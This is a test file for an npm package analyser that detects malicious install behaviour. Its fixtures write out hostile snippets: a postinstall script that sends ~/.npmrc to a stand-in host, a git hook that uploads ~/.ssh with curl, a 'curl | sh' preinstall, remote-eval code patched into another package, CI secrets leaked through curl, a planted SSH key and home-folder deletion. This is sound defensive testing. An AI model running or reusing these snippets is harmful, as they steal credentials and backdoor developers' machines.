import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';
import { behavioursOf, flowsOf } from './sent.js';

const started = (files: Readonly<Record<string, string>>) =>
  analysePackage(
    packageOf({ 'package.json': JSON.stringify({ scripts: { postinstall: 'node scripts/setup.js' } }), ...files }),
  ).flows.map(({ source, sink, host, moment }) => `${source}>${sink} ${host ?? ''} ${moment}`);

describe('files of the package that are copied and started', () => {
  it('are those files, with what lies beside them (patch-manager, 2025)', () => {
    const flows = started({
      'scripts/setup.js': `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
        const names = { 'watch.js': 'cache.js', 'files.js': 'files.js' }; const dir = path.join(os.homedir(), '.cache', 'registry');
        for (const [from, to] of Object.entries(names)) fs.copyFileSync(path.join(__dirname, '..', 'src', from), path.join(dir, to));
        spawn(process.execPath, [path.join(dir, 'cache.js')], { detached: true }).unref();`,
      'src/watch.js': `const { all } = require('./files'); fetch('https://collect.invalid', { method: 'POST', body: all() });`,
      'src/files.js': `const fs = require('fs'), os = require('os'); exports.all = () => fs.readFileSync(os.homedir() + '/.npmrc');`,
    });
    assert.ok(flows.includes('credential-file>network collect.invalid install'), flows.join('; '));
  });
});

describe('files that are written', () => {
  it('do what they say where git or npm runs them', () => {
    const hook = `#!/bin/sh\\ntar czf - ~/.ssh | curl -s -T - https://collect.invalid/u\\n`;
    const planted = flowsOf(`fs.writeFileSync(path.join(process.cwd(), '.git', 'hooks', 'post-merge'), '${hook}');`);
    assert.ok(planted.includes('ssh-key>command-argument@collect.invalid'), planted.join('; '));
    const scripts = `JSON.stringify({ scripts: { preinstall: 'curl -s https://load.invalid/p | sh' } })`;
    const behaviours = behavioursOf(`fs.writeFileSync(path.join(process.env.INIT_CWD, 'package.json'), ${scripts});`);
    assert.deepEqual([...new Set(behaviours)], ['download-and-run import']);
    const honest = `#!/bin/sh\\nnpx --no-install lint-all\\n`;
    assert.deepEqual(
      behavioursOf(`fs.writeFileSync(path.join(process.cwd(), '.git', 'hooks', 'pre-push'), '${honest}');`),
      [],
    );
  });

  it('are kept beside what they are copies of, which stays as it is', () => {
    const app = `const main = '/Applications/Editor.app/Contents/Resources/app/dist/main.js';`;
    assert.deepEqual(behavioursOf(`${app} fs.copyFileSync(main, main + '.bak');`), []);
    assert.deepEqual(behavioursOf(`${app} fs.cpSync(main, main + '~');`), []);
    const changed = ['application-changed import'];
    assert.deepEqual(behavioursOf(`${app} fs.copyFileSync(main + '.bak', main);`), changed);
    assert.deepEqual(behavioursOf(`${app} fs.renameSync(main, main + '.bak');`), changed);
    assert.deepEqual(behavioursOf(`${app} fs.copyFileSync('x.js', main + '.bak');`), changed);
    assert.deepEqual(behavioursOf(`${app} fs.copyFileSync(main, main + '/../preload.js');`), changed);
  });

  it("are code where that is put into another package's file", () => {
    const patch = (added: string): readonly string[] =>
      flowsOf(`const file = path.join(__dirname, '..', 'chalk', 'index.js'); const old = fs.readFileSync(file, 'utf8');
        fs.writeFileSync(file, old + ${added});`);
    const code = `;require('https').get('https://load.invalid', (r) => r.on('data', (d) => eval(String(d))));`;
    assert.deepEqual(patch(JSON.stringify(code)), ['downloaded>evaluated']);
    assert.deepEqual(patch(`'\\nmodule.exports.level = 1;'`), []);
  });

  it('lie in folders of which nobody knows which they are', () => {
    const remove = (folder: string): readonly string[] =>
      behavioursOf(`fs.rmSync(${folder}, { recursive: true, force: true });`);
    assert.deepEqual(remove('path.resolve(path.dirname(process.argv[2]))'), []);
    assert.deepEqual(remove(`path.dirname(path.join(os.homedir(), 'x'))`), ['deletes-user-files import']);
  });

  it('lie beside all packages where a tool takes that folder for the project', () => {
    const write = (name: string): readonly string[] =>
      behavioursOf(`fs.writeFileSync(path.join(__dirname, '..', '${name}'), go());`);
    assert.deepEqual(write('pnpm-workspace.yaml'), []);
    assert.deepEqual(write('settings.json'), []);
    assert.deepEqual(write('chalk.js'), ['other-package-changed import']);
    assert.deepEqual(write('chalk/package.json'), ['other-package-changed import']);
  });

  it('are the code of packages wherever those are found', () => {
    const patch = (found: string): readonly string[] =>
      behavioursOf(`const f = ${found}; fs.writeFileSync(f, fs.readFileSync(f, 'utf8') + '\\n;1');`);
    assert.deepEqual(patch(`require.resolve('express')`), ['other-package-changed import']);
    assert.deepEqual(patch(`require.resolve('@scope/name', { paths: [process.cwd()] })`), [
      'other-package-changed import',
    ]);
    assert.deepEqual(patch(`require.resolve('./own.js')`), []);
    assert.deepEqual(flowsOf(`require(require.resolve('node-fetch'))('https://collect.invalid/' + s);`), [
      'credential-file>network@collect.invalid',
    ]);
  });

  it('are where a project installs from', () => {
    const write = (folder: string, name: string): string =>
      `const f = path.join(${folder}, '${name}'); fs.writeFileSync(f, fs.readFileSync(f, 'utf8').replace('a', 'b'));`;
    const project = 'process.env.INIT_CWD || process.cwd()';
    for (const name of ['package-lock.json', 'yarn.lock', 'pnpm-lock.yaml'])
      assert.deepEqual(behavioursOf(write(project, name)), ['downloads-redirected import']);
    assert.deepEqual(behavioursOf(write('__dirname', 'package-lock.json')), []);
    assert.deepEqual(behavioursOf(`exports.tidy = () => { ${write(project, 'package-lock.json')} };`), []);
  });

  it("are another package's declarations, which nothing runs", () => {
    assert.deepEqual(
      behavioursOf(`fs.copyFileSync('./node_modules/long/index.d.ts', './node_modules/long/umd/index.d.ts');`),
      [],
    );
  });

  it('tell npm or a build server what to do', () => {
    const rc = (text: string): readonly string[] =>
      behavioursOf(`fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '${text}');`);
    assert.deepEqual(rc('\\nnode-options=--require /tmp/a.cjs\\n'), ['autostart import']);
    assert.deepEqual(rc('registry=https://mirror.invalid/\\n'), ['downloads-redirected import']);
    assert.deepEqual(rc('registry=https://registry.npmjs.org/\\nfund=false\\n'), []);
    const flow = (run: string): readonly string[] =>
      behavioursOf(
        `fs.writeFileSync('.github/workflows/a.yml', 'env: { D: "\${{ toJSON(secrets) }}" }\\nrun: ${run}');`,
      );
    assert.deepEqual(flow('curl -d "$D" https://collect.invalid'), [
      'workflow-written import',
      'workflow-secrets import',
    ]);
    assert.deepEqual(flow('true'), ['workflow-written import']);
  });

  it('are a program that somebody has installed, or a neighbour that was resolved', () => {
    const app = `path.join(os.homedir(), 'AppData/Local/Programs/wallet/resources/app.asar')`;
    assert.deepEqual(behavioursOf(`fs.writeFileSync(${app}, '');`), ['application-changed import']);
    assert.deepEqual(behavioursOf(`fs.appendFileSync(require.resolve('lodash/lodash.js'), ';x()');`), [
      'other-package-changed import',
    ]);
    assert.deepEqual(behavioursOf(`fs.writeFileSync('dist/mac/resources/app.asar', '');`), [
      'other-package-changed import',
    ]);
  });

  it('are no neighbour where git runs them, wherever its folder is said to be', () => {
    const write = (file: string): readonly string[] =>
      behavioursOf(`fs.writeFileSync(path.join(__dirname, '..', 'other', '${file}'), 'x');`);
    assert.deepEqual(write('hooks/pre-commit'), []);
    assert.deepEqual(write('hooks/pre-commit.js'), ['other-package-changed import']);
  });

  it('are written by number as well', () => {
    const program = `Buffer.from('f0VMRgIBAQAAAAAA', 'base64')`;
    const run = (file: string) =>
      flowsOf(
        `const fd = fs.openSync(${file}, 'w', 0o700); fs.writeSync(fd, ${program}); fs.closeSync(fd); cp.spawn('/dev/shm/.a');`,
      );
    assert.deepEqual(run(`'/dev/shm/.a'`), ['decoded>written-and-run']);
    assert.deepEqual(run(`'/dev/shm/.b'`), []);
  });

  it('are written through a handle as well', () => {
    const key = `'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKE a@b'`;
    const code = `fs.promises.open(os.homedir() + '/.ssh/authorized_keys', 'a').then((h) => h.appendFile(${key}));`;
    assert.deepEqual(behavioursOf(code), ['ssh-key-planted import']);
  });

  it('are loaded as the code that was put together for them', () => {
    const load = (code: string): readonly string[] =>
      flowsOf(
        `const text = ${JSON.stringify(code.split('').reverse().join(''))}.split('').reverse().join(''); fs.writeFileSync('/tmp/a.js', text); require('/tmp/a.js');`,
      );
    assert.ok(
      load(`fetch('https://collect.invalid?' + JSON.stringify(process.env))`).includes(
        'environment>network@collect.invalid',
      ),
    );
    assert.deepEqual(load(`module.exports = 1;`), []);
  });
});
